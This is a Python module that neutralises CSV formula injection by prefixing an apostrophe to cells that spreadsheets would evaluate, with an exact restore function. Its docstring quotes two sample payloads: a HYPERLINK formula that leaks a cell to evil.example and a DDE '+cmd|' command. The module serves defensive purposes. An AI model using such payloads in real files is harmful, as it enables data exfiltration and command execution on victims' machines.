"""CSV cells a spreadsheet would run as a formula, and how to write them so it shows them as text instead.

A cell beginning with ``=``, ``+``, ``@``, a tab or a carriage return is read as a formula by Excel,
LibreOffice and Google Sheets when the CSV is opened (``=HYPERLINK("http://evil.example/?leak="&A2,"x")``,
``+cmd|' /C calc'!A0``). OWASP's defence is a leading apostrophe, which every spreadsheet shows as the start
of a text cell. A leading ``-`` is also a formula, but AmbiK's cells legitimately start with one ("-metal"
in ``user_intent``, a negative number); those stay as they are, and only a ``-`` cell holding something a
formula needs to do harm (a call's parenthesis, a DDE ``|`` or ``!``, a string's ``"``, ``&``, ``;``, ``:``,
a cell reference's ``$``) is neutralised.

The escape is reversible: a cell already beginning with apostrophes in front of such a cell gets one more,
so :func:`restore` gives back exactly what :func:`neutral` was given, and a cell that needs no escape
(``'hello``) is never touched either way.
"""

from __future__ import annotations

import re

#: Always a formula when a spreadsheet opens the file.
TRIGGERS = ("=", "+", "@", "\t", "\r")
#: What a ``-`` cell must contain to be neutralised: the characters a harmful formula cannot do without.
_HARMFUL_AFTER_MINUS = re.compile(r"""[()|!"&;:$\\=@+]""")


def formula(cell: str) -> bool:
    """Whether a spreadsheet would evaluate ``cell`` (as written, without any escape)."""
    if not cell:
        return False
    if cell.startswith(TRIGGERS):
        return True
    return cell.startswith("-") and _HARMFUL_AFTER_MINUS.search(cell) is not None


def _escaped(cell: str) -> bool:
    """A cell that :func:`neutral` prefixes: a formula, behind any number of apostrophes."""
    return formula(cell.lstrip("'"))


def neutral(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text: an apostrophe in front of a formula (and in front of a
    cell that already starts with apostrophes before one, so :func:`restore` is exact)."""
    return "'" + cell if _escaped(cell) else cell


def restore(cell: str) -> str:
    """The cell :func:`neutral` was given."""
    return cell[1:] if cell.startswith("'") and _escaped(cell) else cell
